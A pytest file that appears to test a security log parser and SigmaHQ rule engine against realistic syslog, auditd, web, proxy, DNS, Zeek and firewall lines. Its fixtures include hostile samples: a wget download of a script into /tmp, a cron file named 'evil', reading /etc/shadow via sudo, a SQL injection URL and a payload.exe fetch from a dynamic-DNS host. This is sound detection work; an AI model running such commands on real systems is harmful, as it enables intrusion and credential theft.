"""Log sources from real-format samples: each line parsed as the product sends it, its product
inferred from its content, and a SigmaHQ rule (or a shipped one) firing on the normalised event
through the same processing pipeline the engine uses."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

import pytest

from xizang5g.security import parsers
from xizang5g.security.detection.sigma import SigmaEngine, parse_rule
from xizang5g.security.ingest import (
    HOST_PRODUCTS,
    BadInput,
    complete_event,
    enrich,
    normalise_json_item,
    parse_syslog,
)

NOW = datetime(2026, 12, 3, 12, 0, tzinfo=UTC)
CORPUS = Path("/work/shared/sigmahq-rules/rules")
if not CORPUS.exists():
    CORPUS = Path(__file__).resolve().parents[3] / "shared" / "sigmahq-rules" / "rules"


def line(text: str) -> dict:
    event = parse_syslog(text.encode(), now=NOW)
    return enrich(event)


def corpus_rule(name: str):
    matches = list(CORPUS.glob(f"**/{name}"))
    if not matches:
        pytest.skip(f"SigmaHQ rule {name} not found under {CORPUS} (../shared/sigmahq-rules/)")
    return parse_rule(matches[0].read_text(encoding="utf-8"))


def fires(rule, event: dict) -> bool:
    engine = SigmaEngine([rule])
    return bool(engine.match_batch([complete_event(dict(event))]))


# --- Linux syslog --------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("text", "program", "fields"),
    [
        (
            "<86>Dec  3 10:01:02 web01 sshd[2211]: Failed password for invalid user admin from 203.0.113.9 port 52144 ssh2",
            "sshd",
            {"action": "login", "outcome": "failure", "user": "admin", "src_ip": "203.0.113.9"},
        ),
        (
            "<85>Dec  3 10:01:05 web01 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/cat /etc/shadow",
            "sudo",
            {"action": "sudo", "outcome": "success", "user": "alice"},
        ),
        (
            "<78>Dec  3 10:05:01 web01 CRON[3012]: (root) CMD (/usr/local/bin/backup.sh)",
            "cron",
            {"category": "linux"},
        ),
        (
            "<86>Dec  3 10:06:11 web01 su[3100]: pam_unix(su-l:session): session opened for user root(uid=0) by alice(uid=1000)",
            "su",
            {"category": "linux"},
        ),
        (
            "<30>Dec  3 10:07:00 web01 systemd[1]: Started Session 12 of User alice.",
            "systemd",
            {"category": "linux"},
        ),
        (
            "<30>Dec  3 10:07:00 web01 systemd-logind[812]: New session 12 of user alice.",
            "systemd-logind",
            {"category": "linux"},
        ),
    ],
)
def test_linux_syslog_lines(text, program, fields):
    event = line(text)
    assert event["program"] == program and event["category"] == "linux"
    for key, value in fields.items():
        assert event[key] == value, key


def test_linux_product_is_inferred_from_what_a_host_sends():
    HOST_PRODUCTS.known.pop("db07", None)
    unknown = line("<13>Dec  3 10:00:00 db07 backupd[77]: stack smashing detected")
    assert unknown["category"] == "application"  # nothing known about db07 yet
    line("<86>Dec  3 10:00:01 db07 sshd[81]: Accepted publickey for ops from 10.0.0.8 port 1 ssh2")
    later = line(
        "<13>Dec  3 10:00:02 db07 backupd[77]: *** stack smashing detected ***: terminated"
    )
    assert later["category"] == "linux"
    rule = corpus_rule("lnx_buffer_overflows.yml")
    assert fires(rule, later)  # a keyword anywhere in the message


# --- auditd --------------------------------------------------------------------------------------
AUDIT = [
    '<14>Dec  3 10:10:00 web01 audisp-syslog: type=SYSCALL msg=audit(1764727800.120:4211): arch=c000003e syscall=59 success=yes exit=0 a0=55d1 a1=55d2 a2=55d3 a3=0 items=2 ppid=3001 pid=3077 auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=5 comm="wget" exe="/usr/bin/wget" subj=unconfined key="exec"',
    '<14>Dec  3 10:10:00 web01 audisp-syslog: type=EXECVE msg=audit(1764727800.120:4211): argc=4 a0="wget" a1="http://203.0.113.5/x.sh" a2="-O" a3="/tmp/x.sh"',
    '<14>Dec  3 10:10:00 web01 audisp-syslog: type=CWD msg=audit(1764727800.120:4211): cwd="/root"',
    '<14>Dec  3 10:10:00 web01 audisp-syslog: type=PATH msg=audit(1764727800.120:4211): item=0 name="/usr/bin/wget" inode=1234 dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL',
    '<14>Dec  3 10:10:01 web01 audisp-syslog: type=SYSCALL msg=audit(1764727801.500:4212): arch=c000003e syscall=257 success=yes exit=3 items=2 ppid=1 pid=3090 auid=1000 uid=0 comm="touch" exe="/usr/bin/touch" key="file"',
    '<14>Dec  3 10:10:01 web01 audisp-syslog: type=CWD msg=audit(1764727801.500:4212): cwd="/etc/cron.d"',
    '<14>Dec  3 10:10:01 web01 audisp-syslog: type=PATH msg=audit(1764727801.500:4212): item=1 name="evil" inode=99 nametype=CREATE',
    '<14>Dec  3 10:10:02 web01 audisp-syslog: type=EXECVE msg=audit(1764727802.000:4213): argc=3 a0="sh" a1="-c" a2=6563686F2068656C6C6F20776F726C64',
]


def test_auditd_records_assemble_into_process_creation_and_file_event():
    events = [line(text) for text in AUDIT]
    assert all(e["program"] == "auditd" and e["category"] == "linux" for e in events)
    assert events[1]["extra"]["type"] == "EXECVE" and events[1]["extra"]["a3"] == "/tmp/x.sh"
    assert events[7]["extra"]["a2"] == "echo hello world"  # hex-encoded argument decoded
    derived = parsers.assemble_audit(events)
    process = [d for d in derived if d["action"] == "process_creation"]
    files = [d for d in derived if d["action"] == "file_event"]
    wget = process[0]["extra"]
    assert wget["Image"] == "/usr/bin/wget"
    assert wget["CommandLine"] == "wget http://203.0.113.5/x.sh -O /tmp/x.sh"
    assert (wget["ProcessId"], wget["ParentProcessId"], wget["CurrentDirectory"]) == (
        "3077",
        "3001",
        "/root",
    )
    assert files[0]["extra"]["TargetFilename"] == "/etc/cron.d/evil"
    rule = corpus_rule("proc_creation_lnx_wget_download_suspicious_directory.yml")
    assert fires(rule, process[0])
    assert not fires(rule, {**process[0], "extra": {**wget, "CommandLine": "wget -O /srv/x"}})
    cron = corpus_rule("file_event_lnx_susp_cron_file_created.yml")
    assert fires(cron, files[0])


# --- web servers ---------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "text",
    [
        # nginx combined
        '<190>Dec  3 10:20:00 web01 nginx: 198.51.100.7 - - [03/Dec/2026:10:20:00 +0800] "GET /index.php?id=1%27%20union%20select HTTP/1.1" 200 512 "-" "sqlmap/1.7"',
        # Debian apache2, common format
        '<190>Dec  3 10:20:00 web01 apache2: 198.51.100.7 - bob [03/Dec/2026:10:20:00 +0800] "GET /index.php?id=1%27%20union%20select HTTP/1.1" 200 512',
        # RHEL httpd, combined without its own timestamp (log_format without %t)
        '<190>Dec  3 10:20:00 web01 httpd: 198.51.100.7 - - "GET /index.php?id=1%27%20union%20select HTTP/1.1" 200 512 "-" "curl/8.0"',
        # Apache vhost_combined
        '<190>Dec  3 10:20:00 web01 httpd: shop.example.cn:443 198.51.100.7 - - [03/Dec/2026:10:20:00 +0800] "GET /index.php?id=1%27%20union%20select HTTP/1.1" 200 512 "-" "curl/8.0"',
    ],
)
def test_web_access_lines(text):
    event = line(text)
    assert event["category"] == "web" and event["action"] == "http_request"
    assert event["src_ip"] == "198.51.100.7"
    assert event["extra"]["url"].startswith("/index.php?id=")
    assert event["extra"]["status"] == "200"
    shipped = parse_rule(
        (
            Path(__file__).resolve().parents[2]
            / "src/xizang5g/security/rules/web_sql_injection.yml"
        ).read_text(encoding="utf-8")
    )
    assert fires(shipped, event)


def test_web_access_line_in_no_known_format_is_a_bad_line():
    with pytest.raises(BadInput, match="common nor the combined"):
        line('<190>Dec  3 10:20:00 web01 nginx: 198.51.100.7 - - "BROKEN')


def test_apache_service_rules_see_apache2_and_httpd():
    rule = corpus_rule("web_apache_segfault.yml")
    for program in ("apache", "apache2", "httpd"):
        event = line(
            f"<187>Dec  3 10:20:00 web01 {program}: [core:notice] [pid 1] AH00052: child pid 2 exit signal Segmentation fault (11)"
        )
        assert fires(rule, event), program


# --- proxy, DNS ----------------------------------------------------------------------------------
def test_squid_native_access_log():
    event = line(
        "<190>Dec  3 10:30:00 proxy01 squid[900]: 1764728000.123    245 10.20.0.15 TCP_MISS/200 4312 GET http://evil.hopto.org/payload.exe - HIER_DIRECT/203.0.113.50 application/octet-stream"
    )
    assert (event["category"], event["action"], event["program"]) == (
        "web",
        "proxy_request",
        "squid",
    )
    assert event["extra"]["cs-host"] == "evil.hopto.org"
    assert event["extra"]["c-uri-extension"] == "exe"
    assert fires(corpus_rule("proxy_download_susp_dyndns.yml"), event)


def test_bind_query_log():
    event = line(
        "<30>Dec  3 10:31:00 dns01 named[700]: client @0x7f3a5c0 10.20.0.15#53211 (api.telegram.org): query: api.telegram.org IN A +E(0)K (10.20.0.2)"
    )
    assert (event["category"], event["action"], event["src_ip"]) == (
        "network",
        "dns_query",
        "10.20.0.15",
    )
    assert event["extra"]["query"] == "api.telegram.org"
    assert fires(corpus_rule("net_dns_susp_telegram_api.yml"), event)


# --- zeek ----------------------------------------------------------------------------------------
def test_zeek_json_dns_http_conn():
    dns = normalise_json_item(
        parsers.zeek_item(
            {
                "ts": 1764728000.5,
                "uid": "CzX1",
                "id.orig_h": "10.20.0.15",
                "id.orig_p": 5353,
                "id.resp_h": "10.20.0.2",
                "id.resp_p": 53,
                "proto": "udp",
                "query": "api.telegram.org",
                "qtype_name": "A",
            }
        )
    )
    enrich(dns, category=dns.pop("category", None))
    assert dns["program"] == "zeek" and dns["extra"]["zeek_log"] == "dns"
    assert dns["src_ip"] == "10.20.0.15" and dns["dst_port"] == 53
    assert fires(corpus_rule("net_dns_susp_telegram_api.yml"), dns)
    http = parsers.zeek_item(
        {"ts": 1764728001.0, "uid": "C2", "method": "GET", "uri": "/x", "host": "a.example"}
    )
    conn = parsers.zeek_item({"ts": 1764728001.0, "uid": "C3", "conn_state": "S0", "proto": "tcp"})
    assert http["extra"]["zeek_log"] == "http" and conn["extra"]["zeek_log"] == "conn"


# --- firewalls -----------------------------------------------------------------------------------
def test_cisco_asa_deny():
    event = line(
        '<164>Dec 03 2026 10:40:00 asa01 : %ASA-4-106023: Deny tcp src outside:198.51.100.7/51515 dst inside:10.0.0.5/22 by access-group "OUTSIDE_IN" [0x0, 0x0]'
    )
    assert (event["category"], event["program"], event["outcome"]) == ("network", "asa", "blocked")
    assert (event["src_ip"], event["dst_ip"], event["dst_port"]) == ("198.51.100.7", "10.0.0.5", 22)


def test_cisco_ios_aaa_command_log():
    event = line(
        "<189>Dec  3 10:41:00 core-sw1 1234: %PARSER-5-CFGLOG_LOGGEDCMD: User:admin  logged command:no logging console"
    )
    assert event["program"] == "cisco"
    assert fires(corpus_rule("cisco_cli_disable_logging.yml"), event)


def test_fortigate_key_values_without_syslog_header():
    event = line(
        '<189>date=2026-12-03 time=10:42:00 devname="FGT60F" devid="FGT60FTK0000" tz="+0800" logid="0100044547" type="event" subtype="system" level="information" vd="root" logdesc="Object attribute configured" user="admin" ui="ssh(10.0.0.9)" action="Edit" cfgtid=1 cfgpath="user.group" cfgobj="guest" cfgattr="status[disable->enable]" msg="Edit user.group guest"'
    )
    assert event["program"] == "fortigate" and event["host"] == "FGT60F"
    assert event["time"] == datetime(2026, 12, 3, 2, 42, tzinfo=UTC)
    assert event["extra"]["cfgpath"] == "user.group"
    assert fires(corpus_rule("fortinet_fortigate_user_group_modified.yml"), event)


def test_huawei_usg_session_log():
    event = line(
        "<190>Dec  3 2026 10:43:00 USG6000 %%01SECLOG/6/SESSION_TEARDOWN(l):IPVer=4,Protocol=tcp,SourceIP=198.51.100.7,DestinationIP=10.0.0.5,SourcePort=4444,DestinationPort=3389,BeginTime=1764728580,EndTime=1764728590,SendPkts=3,SendBytes=180,RcvPkts=0,RcvBytes=0,SourceVpnID=0,DestinationVpnID=0,PolicyName=deny-all."
    )
    assert (event["program"], event["src_ip"], event["dst_port"]) == (
        "huawei",
        "198.51.100.7",
        3389,
    )


def test_juniper_srx_rt_flow():
    event = line(
        '<14>1 2026-12-03T10:44:00.000+08:00 srx01 RT_FLOW - RT_FLOW_SESSION_DENY [junos@2636.1.1.1.2.40 source-address="198.51.100.7" source-port="4444" destination-address="10.0.0.5" destination-port="23" protocol-id="6" policy-name="deny-all"] session denied'
    )
    assert (event["program"], event["outcome"], event["dst_port"]) == ("juniper", "blocked", 23)
    assert event["extra"]["app"] == "rt_flow"


# --- through ingest: stored, detected, bad lines kept --------------------------------------------
@pytest.mark.django_db
def test_syslog_batch_stores_assembled_audit_events_and_detects(operator):
    from xizang5g.security.models import BadLine, SecurityEvent
    from xizang5g.security.services import sigma_rule_create
    from xizang5g.security.services.events import syslog_ingest

    path = next(CORPUS.glob("**/proc_creation_lnx_wget_download_suspicious_directory.yml"), None)
    if path is None:
        pytest.skip(f"SigmaHQ corpus not at {CORPUS} (../shared/sigmahq-rules/)")
    sigma_rule_create(text=path.read_text(encoding="utf-8"), user=operator)
    broken = b'<190>Dec  3 10:20:00 web01 nginx: 198.51.100.7 - - "BROKEN'
    result = syslog_ingest(lines=[t.encode() for t in AUDIT] + [broken], peer="10.0.0.1:514")
    assert result.bad == 1 and BadLine.objects.get().reason.startswith("web access line")
    assert result.stored == len(AUDIT) + 3  # two process creations, one file event
    process = SecurityEvent.objects.filter(action="process_creation")
    assert process.count() == 2
    assert any(
        d.rule_code == path.read_text().split("id: ")[1].split()[0] for d in result.detections
    )
